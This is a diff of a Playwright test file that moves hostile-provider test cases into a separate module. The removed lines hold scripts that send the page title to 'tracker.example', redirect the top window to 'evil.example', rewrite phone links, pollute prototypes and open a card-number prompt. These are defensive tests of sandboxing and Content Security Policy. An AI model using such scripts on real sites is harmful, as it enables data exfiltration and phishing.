@@ -3,62 +3,13 @@
 import type { Page } from '@playwright/test'
 import { expect, openPageWith, test, thePageWith } from '../fixtures.ts'
 import { embed, expectDirectLinkAndPhone, status } from '../form-place.ts'
+import { frames, scripts } from '../hostile-cases.ts'
 import { DONE, expectUsable, openHostilePage } from '../hostile.ts'
 import { formOrigin, isProvider, standIn, usesFrame, usesScript } from '../provider.ts'
 import { site } from '../../artifact/built.ts'
 
 /** Greatest height of a form's frame in px (app/forms/frames.ts). */
 const TALLEST_FRAME = 6_000
-
-const scripts: [what: string, script: string, expectedLines: RegExp[]][] = [
-  [
-    'changes what it can reach: fetch, history, timers, the title, the phone number, the name of the tab',
-    `window.fetch = history.pushState = window.setTimeout = () => undefined
-     window.name = "Hostile"
-     setInterval(() => {
-       document.title = "Hostile"
-       for (const link of document.querySelectorAll('a[href^="tel:"]')) link.href = "tel:+19005550000"
-     }, 10)
-     done()`,
-    [],
-  ],
-  ['adds properties to every object', 'Object.prototype.polluted = "x"; Object.prototype.href = "x"; done()', [/./]],
-  [
-    'registers a service worker from a file of the site',
-    `navigator.serviceWorker.register(document.querySelector("script[src]").src).catch(() => done())`,
-    [/Content Security Policy/],
-  ],
-  ['throws', 'queueMicrotask(done); throw new Error("provider")', [/^page error: provider/]],
-  ['does nothing', 'done()', []],
-  [
-    'throws in every callback',
-    'setInterval(() => { done(); throw new Error("provider") }, 20)',
-    [/^page error: provider/],
-  ],
-  [
-    'rejects 200 promises',
-    'for (let i = 0; i < 200; i++) Promise.reject(new Error("provider")); done()',
-    [/^page error: provider/],
-  ],
-  ['keeps the page busy', 'const end = Date.now() + 500; while (Date.now() < end); done()', []],
-  [
-    'floods the page with messages',
-    'for (let i = 0; i < 3000; i++) postMessage({ type: "secure-form-height", height: i }, "*"); done()',
-    [],
-  ],
-  [
-    'adds inline scripts and styles',
-    `const s = document.createElement("script"); s.textContent = "window.injected = true"; document.head.append(s)
-     document.body.setAttribute("style", "display: none"); done()`,
-    [/Content Security Policy/],
-  ],
-  [
-    'sends data to another origin',
-    `new Image().src = "https://tracker.example/p.gif"
-     fetch("https://tracker.example/?" + document.title).catch(() => done())`,
-    [/Content Security Policy/, /tracker\.example/],
-  ],
-]
 
 if (usesScript) {
   for (const [what, script, lines] of scripts) {
@@ -83,51 +34,6 @@ if (usesScript) {
     await expect(page.getByText('Pay here')).toHaveCount(0)
   })
 }
-
-const heights = '(height) => parent.postMessage({ type: "secure-form-height", height }, "*")'
-
-const frames: [what: string, frame: string, expectedLines: RegExp[]][] = [
-  ['reports a huge height', `(${heights})(1e9); parent.postMessage("setHeight:999999999:x", "*"); done()`, []],
-  [
-    'reports heights that are not positive numbers',
-    `for (const height of [-1, NaN, Infinity, "9e9", {}, null]) (${heights})(height); done()`,
-    [],
-  ],
-  [
-    'floods the page with messages',
-    `let rounds = 0
-     const flood = () => { for (let i = 0; i < 100; i++) (${heights})(300 + i); if (++rounds === 3) done() }
-     setInterval(flood, 20)`,
-    [],
-  ],
-  // The page still answers, because the frame has a process of its own.
-  [
-    'is busy for ten seconds',
-    'setTimeout(() => { done(); const end = Date.now() + 10000; while (Date.now() < end); }, 50)',
-    [],
-  ],
-  [
-    'starts a download',
-    `const link = document.createElement("a"); link.href = "data:text/plain,x"; link.download = "invoice.txt"
-     link.click(); done()`,
-    [/download/i],
-  ],
-  [
-    'navigates the tab to another site',
-    'try { top.location = "https://evil.example/" } catch {} ; done()',
-    [/navigat/i],
-  ],
-  [
-    'tries to change the page around it',
-    'try { top.document.body.innerHTML = "" } catch {} ; try { parent.document.title = "" } catch {} ; done()',
-    [],
-  ],
-  [
-    'opens dialogs',
-    'done(); alert("Pay here"); confirm("Sure?"); prompt("Card number")',
-    [/dialog|alert|confirm|prompt/i],
-  ],
-]
 
 /** Something has loaded, and nothing proves that it is the form. */
 async function expectOpenedOnly(page: Page): Promise<void> {
